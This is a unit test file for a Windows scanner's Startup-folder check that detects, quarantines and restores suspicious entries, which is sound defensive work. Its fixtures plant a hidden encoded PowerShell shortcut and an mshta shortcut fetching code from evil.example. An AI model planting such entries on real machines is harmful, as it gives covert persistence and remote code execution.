// The Startup folders: programs and shortcuts that start at logon, wherever the
// shell-folder settings point the folders; a shortcut judged by what it starts;
// CLEAN moves the file into its backup and the restore puts it back whole.
#include <windows.h>

#include <shlobj.h>

#include <gtest/gtest.h>
#include <objbase.h>

#include "platform/Text.h"
#include "syscheck/ModuleBackup.h"
#include "syscheck/checks/ModuleShortcut.h"
#include "syscheck/checks/ModuleStartupFolders.h"
#include "tests/unit/CheckSupport.h"
#include "tests/unit/TestSupport.h"

namespace {

using checksupport::ReportLines;
using checksupport::StandInPrompt;

const wchar_t kShellFolders[] = L"Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders";
const std::wstring kMessage = L"：发现可疑程序，可能是木马! -> ";

std::wstring Expand(const std::wstring& text) {
  wchar_t out[MAX_PATH];
  ExpandEnvironmentStringsW(text.c_str(), out, MAX_PATH);
  return out;
}

const std::wstring kUser = Expand(L"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup");
const std::wstring kCommon = Expand(L"%ProgramData%\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp");

// A shortcut as the shell itself writes one.
void MakeShortcut(const std::wstring& path, const std::wstring& target, const std::wstring& arguments) {
  CoInitialize(nullptr);
  IShellLinkW* link = nullptr;
  ASSERT_EQ(S_OK, CoCreateInstance(CLSID_ShellLink, nullptr, CLSCTX_INPROC_SERVER, IID_IShellLinkW, (void**)&link));
  link->SetPath(target.c_str());
  link->SetArguments(arguments.c_str());
  IPersistFile* file = nullptr;
  ASSERT_EQ(S_OK, link->QueryInterface(IID_IPersistFile, (void**)&file));
  EXPECT_EQ(S_OK, file->Save(path.c_str(), TRUE));
  file->Release();
  link->Release();
}

void MakeFolder(const std::wstring& path) { SHCreateDirectoryExW(nullptr, path.c_str(), nullptr); }

void EmptyFolder(const std::wstring& folder) {
  WIN32_FIND_DATAW found;
  HANDLE find = FindFirstFileW((folder + L"\\*").c_str(), &found);
  if (find == INVALID_HANDLE_VALUE) return;
  do {
    if (!(found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY))
      DeleteFileW((L"\\\\?\\" + folder + L"\\" + found.cFileName).c_str());
  } while (FindNextFileW(find, &found));
  FindClose(find);
}

// Bytes of a shortcut put together field by field, for what the shell never writes.
struct LinkBytes {
  std::string bytes;
  void U16(uint32_t v) { bytes += {(char)(v & 0xFF), (char)(v >> 8)}; }
  void U32(uint32_t v) {
    U16(v & 0xFFFF);
    U16(v >> 16);
  }
  void Wide(const std::wstring& text, bool counted) {
    if (counted) U16((uint32_t)text.size());
    for (wchar_t c : text) U16(c);
    if (!counted) U16(0);
  }
  explicit LinkBytes(uint32_t flags) {
    U32(0x4C);
    bytes += std::string("\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46", 16);
    U32(flags);
    bytes += std::string(0x4C - bytes.size(), '\0');
  }
};

class StartupFolders : public checksupport::CheckTest {
 protected:
  void SetUp() override {
    CheckTest::SetUp();
    MakeFolder(kUser);
    MakeFolder(kCommon);
    EmptyFolder(kUser);
    EmptyFolder(kCommon);
  }
  void TearDown() override {
    EmptyFolder(kUser);
    EmptyFolder(kCommon);
    CheckTest::TearDown();
  }
};

TEST(Shortcut, ReadsWhatTheShellWritesAndWhatItNeverDoes) {
  const std::wstring folder = testsupport::TestFolder();
  const std::wstring path = folder + L"\\made.lnk";
  MakeShortcut(path, L"C:\\windows\\system32\\notepad.exe", L"/p \"C:\\a b\\c.txt\"");
  ModuleShortcut::Shortcut read;
  ASSERT_TRUE(ModuleShortcut::Read(testsupport::ReadFileBytes(path), folder, &read));
  EXPECT_EQ(L"c:\\windows\\system32\\notepad.exe", Text::Lower(read.target));
  EXPECT_EQ(L"/p \"C:\\a b\\c.txt\"", read.arguments);
  DeleteFileW(path.c_str());

  // A target in the environment block wins; a relative path is the link's folder's.
  LinkBytes expanded(0x20 | 0x80 | 0x200);
  expanded.Wide(L"-enc AAAA", true);
  expanded.U32(0x314);
  expanded.U32(0xA0000001);
  expanded.bytes += std::string(260, '\0');
  std::wstring target = L"%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  expanded.Wide(target, false);
  expanded.bytes += std::string(520 - 2 * (target.size() + 1), '\0');
  expanded.U32(0);
  ASSERT_TRUE(ModuleShortcut::Read(expanded.bytes, folder, &read));
  EXPECT_EQ(Expand(target), read.target);
  EXPECT_EQ(L"-enc AAAA", read.arguments);
  LinkBytes relative(0x8 | 0x80);
  relative.Wide(L"..\\x.exe", true);
  ASSERT_TRUE(ModuleShortcut::Read(relative.bytes, L"C:\\f", &read));
  EXPECT_EQ(L"C:\\f\\..\\x.exe", read.target);
  EXPECT_EQ(L"", read.arguments);

  // No crash and no target read past the bytes: every cut of a real link, lengths
  // pointing far beyond the file, something that is no link at all.
  MakeShortcut(path, L"C:\\windows\\system32\\notepad.exe", L"x");
  const std::string whole = testsupport::ReadFileBytes(path);
  DeleteFileW(path.c_str());
  for (size_t cut = 0; cut < whole.size(); cut++) ModuleShortcut::Read(whole.substr(0, cut), folder, &read);
  LinkBytes huge(0x1 | 0x2 | 0x20 | 0x80);
  huge.U16(0xFFFF);
  EXPECT_FALSE(ModuleShortcut::Read(huge.bytes, folder, &read));
  LinkBytes info(0x2);
  info.U32(0x1C);
  for (uint32_t field : {0x1Cu, 3u, 0xFFFFFF00u, 0xFFFFFFF0u, 0x7FFFFFFFu, 0x1Bu}) info.U32(field);
  ASSERT_TRUE(ModuleShortcut::Read(info.bytes, folder, &read));
  EXPECT_EQ(L"", read.target);
  EXPECT_FALSE(ModuleShortcut::Read("MZ\x90\0 not a link", folder, &read));
}

// What a clean Windows holds there is no finding; every rule's case is.
TEST_F(StartupFolders, EachRuleIsAskedAndCleanWindowsEntriesPass) {
  const std::wstring redirected = Expand(L"%PUBLIC%\\zv-startup");
  MakeFolder(redirected);
  checksupport::SavedValue setting(HKEY_CURRENT_USER, kShellFolders, L"Startup");
  checksupport::SetValue(HKEY_CURRENT_USER, kShellFolders, L"Startup",
                         {REG_EXPAND_SZ, checksupport::WideBytes(L"%PUBLIC%\\zv-startup")});
  testsupport::WriteFileBytes(kUser + L"\\desktop.ini", "[.ShellClassInfo]\r\n");
  testsupport::WriteFileBytes(kCommon + L"\\desktop.ini", "[.ShellClassInfo]\r\n");
  testsupport::WriteFileBytes(kUser + L"\\notes.txt", "a text opens in a viewer");
  testsupport::WriteFileBytes(kCommon + L"\\vendor.exe", "MZ");  // only administrators write there
  MakeShortcut(kUser + L"\\Notepad.lnk", L"C:\\windows\\system32\\notepad.exe", L"");
  MakeShortcut(kCommon + L"\\Editor.lnk", L"C:\\Program Files\\Common Files\\zv edit.exe", L"/min");
  testsupport::WriteFileBytes(L"C:\\Program Files\\Common Files\\zv edit.exe", "MZ");

  testsupport::WriteFileBytes(kUser + L"\\updater.exe", "MZ");
  MakeShortcut(kUser + L"\\ps.lnk", L"C:\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe",
               L"-w hidden -enc SQBFAFgA");
  MakeShortcut(kCommon + L"\\public.lnk", L"C:\\Users\\Public\\svc.exe", L"");
  testsupport::WriteFileBytes(L"C:\\Users\\Public\\svc.exe", "MZ");
  MakeShortcut(kCommon + L"\\gone.lnk", L"C:\\Program Files\\zv-gone\\gone.exe", L"");
  testsupport::WriteFileBytes(redirected + L"\\run.vbs", "WScript.Echo 1");
  {
    StandInPrompt prompt;
    ModuleStartupFolders::CheckStartupFolders();
  }
  const std::wstring m = L"(RSF)" + kMessage;
  std::vector<std::wstring> expected = {
      m + kUser +
          L"\\ps.lnk -> \"C:\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe\" -w hidden "
          L"-enc SQBFAFgA 跳过,未清除!",
      m + kUser + L"\\updater.exe 跳过,未清除!",
      m + redirected + L"\\run.vbs 跳过,未清除!",
      m + kCommon + L"\\gone.lnk -> \"C:\\Program Files\\zv-gone\\gone.exe\" 跳过,未清除!",
      m + kCommon + L"\\public.lnk -> \"C:\\Users\\Public\\svc.exe\" 跳过,未清除!",
  };
  EXPECT_EQ(expected, ReportLines());
  setting.Restore();
  EmptyFolder(redirected);
  RemoveDirectoryW(redirected.c_str());
}

TEST_F(StartupFolders, CleanMovesTheFileIntoItsBackupAndTheRestorePutsItBack) {
  const std::string program("MZ\x90\0\r\n\xFF planted", 15);
  testsupport::WriteFileBytes(kUser + L"\\planted.exe", program);
  MakeShortcut(kCommon + L"\\fetch.lnk", L"C:\\windows\\system32\\mshta.exe", L"https://evil.example/a.hta");
  const std::string link = testsupport::ReadFileBytes(kCommon + L"\\fetch.lnk");
  {
    StandInPrompt prompt({L"CLEAN", L"CLEAN"});
    ModuleStartupFolders::CheckStartupFolders();
  }
  ASSERT_EQ(2u, ReportLines().size());
  EXPECT_NE(std::wstring::npos, ReportLines()[0].find(L" 已清除!"));
  EXPECT_EQ(INVALID_FILE_ATTRIBUTES, GetFileAttributesW((kUser + L"\\planted.exe").c_str()));
  EXPECT_EQ(INVALID_FILE_ATTRIBUTES, GetFileAttributesW((kCommon + L"\\fetch.lnk").c_str()));
  std::vector<ModuleBackup::Backup> backups = ModuleBackup::List();
  ASSERT_EQ(2u, backups.size());
  for (const ModuleBackup::Backup& backup : backups) {
    ASSERT_FALSE(backup.damaged);
    unsigned long error = 1;
    EXPECT_TRUE(ModuleBackup::Restore(backup, &error));
    EXPECT_EQ(0u, error);
  }
  EXPECT_EQ(program, testsupport::ReadFileBytes(kUser + L"\\planted.exe"));
  EXPECT_EQ(link, testsupport::ReadFileBytes(kCommon + L"\\fetch.lnk"));
}

// A backup naming a file anywhere but right inside a Startup folder is listed as
// damaged and writes nothing, whatever check it claims.
TEST_F(StartupFolders, APlantedBackupNamingAnotherFileIsDamaged) {
  testsupport::WriteFileBytes(kUser + L"\\planted.exe", "MZ");
  {
    StandInPrompt prompt({L"CLEAN"});
    ModuleStartupFolders::CheckStartupFolders();
  }
  std::vector<ModuleBackup::Backup> backups = ModuleBackup::List();
  ASSERT_EQ(1u, backups.size());
  const std::string good = testsupport::ReadFileBytes(backups[0].file);
  auto hex = [](const std::wstring& text) {
    std::string out;
    char digits[8];
    for (wchar_t c : text) {
      snprintf(digits, sizeof digits, "%02X%02X", (unsigned)(c & 0xFF), (unsigned)(c >> 8));
      out += digits;
    }
    return out;
  };
  auto replaced = [&good](const std::string& from, const std::string& to) {
    std::string text = good;
    size_t at = text.find(from);
    return at == std::string::npos ? std::string() : text.replace(at, from.size(), to);
  };
  const std::string path = "path " + hex(kUser + L"\\planted.exe");
  const std::pair<const char*, std::string> kForged[] = {
      {"a system file", replaced(path, "path " + hex(L"C:\\windows\\win.ini"))},
      {"a step out of the folder", replaced(path, "path " + hex(kUser + L"\\..\\x.exe"))},
      {"a stream of the folder", replaced(path, "path " + hex(kUser + L":x.exe"))},
      {"a subfolder", replaced(path, "path " + hex(kUser + L"\\sub\\x.exe"))},
      {"another check's tag", replaced("tag 520053004600", "tag 520041005200")},
  };
  for (const auto& forged : kForged) {
    SCOPED_TRACE(forged.first);
    ASSERT_FALSE(forged.second.empty());
    testsupport::WriteFileBytes(backups[0].file, forged.second);
    std::vector<ModuleBackup::Backup> listed = ModuleBackup::List();
    ASSERT_EQ(1u, listed.size());
    EXPECT_TRUE(listed[0].damaged);
  }
}

}  // namespace
